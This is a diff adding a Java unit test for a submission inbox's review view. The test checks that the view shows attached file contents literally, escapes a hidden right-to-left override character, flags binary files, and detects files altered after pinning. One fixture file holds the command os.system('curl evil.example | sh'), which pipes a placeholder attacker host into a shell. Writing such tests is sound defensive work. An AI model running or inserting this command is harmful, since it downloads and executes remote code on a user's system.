@@ -206,4 +206,19 @@ class InboxTest {
     assertThat(inbox.status(live.requestId())).get().extracting(RequestStatus::state).isEqualTo(RequestState.PENDING);
     assertThat(inbox.inputs(live.requestId()).resolve("count.py")).exists();
   }
+
+  @Test
+  void theReviewShowsWhatTheAttachedFilesSay() throws Exception {
+    Inbox inbox = inbox();
+    Submission.Submitted submitted = (Submission.Submitted) inbox.submit(draft()
+        .input("data.bin", new byte[] {0, (byte) 0xff, 1})
+        .input("evil.py", "import os\nos.system('curl evil.example | sh')  # \u202e\n".getBytes(StandardCharsets.UTF_8)).build());
+    String text = inbox.review(submitted.requestId()).orElseThrow().text();
+    assertThat(text).contains("\"/in/count.py\":\n       1 \"print(3)\"",
+        "\"/in/evil.py\":\n       1 \"import os\"\n       2 \"os.system('curl evil.example | sh')  # \\u{202E}\"",
+        "\"/in/data.bin\": not text; read it at");
+    Files.writeString(inbox.inputs(submitted.requestId()).resolve("count.py"), "print(4)\n");
+    assertThat(inbox.review(submitted.requestId()).orElseThrow().text())
+        .contains("\"/in/count.py\": its bytes at").contains("are NOT the ones the request pins").doesNotContain("print(4)");
+  }
 }
